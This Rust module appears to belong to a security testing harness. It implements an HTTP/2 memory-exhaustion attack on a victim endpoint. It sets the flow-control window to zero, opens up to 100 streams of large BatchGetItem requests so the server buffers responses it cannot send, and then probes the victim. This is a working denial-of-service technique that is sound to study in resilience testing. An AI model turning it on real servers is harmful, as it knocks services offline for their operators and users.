use crate::fixture;
use crate::frames::{self, INITIAL_WINDOW_SIZE};
use crate::round::{Kind, Round};
use crate::victim;
use std::time::Duration;

/// Fewer than the 128 that one connection may have.
const STREAMS_MAX: u32 = 100;
const INTERVAL: Duration = Duration::from_millis(10);

/// An HTTP/2 connection that lets the server send nothing, and asks for 16 MB now and then. A ping
/// or another request showed that somebody was there, so the answers were held for five minutes.
pub(super) fn run(round: &mut Round) -> Result<(), String> {
    let mut endpoint = round.endpoint(Kind::Memory)?;
    let requests = endpoint.requests;
    fixture::fill_large(requests)?;
    let body = fixture::large_batch().into_bytes();
    round.attack_endpoint(&mut endpoint, |until| {
        let settings = [(INITIAL_WINDOW_SIZE, 0)];
        let connection = frames::open(requests.address, &settings, Duration::from_secs(5));
        let mut connection = connection.map_err(|error| error.to_string())?;
        for index in 0..STREAMS_MAX {
            let request = frames::request(&requests, 2 * index + 1, "BatchGetItem", &body);
            // A connection that is closed is a way to hold this off.
            if until.is_over() || connection.send(&request).is_err() {
                break;
            }
            std::thread::sleep(INTERVAL);
        }
        until.wait();
        victim::put_large(requests)
    })
}
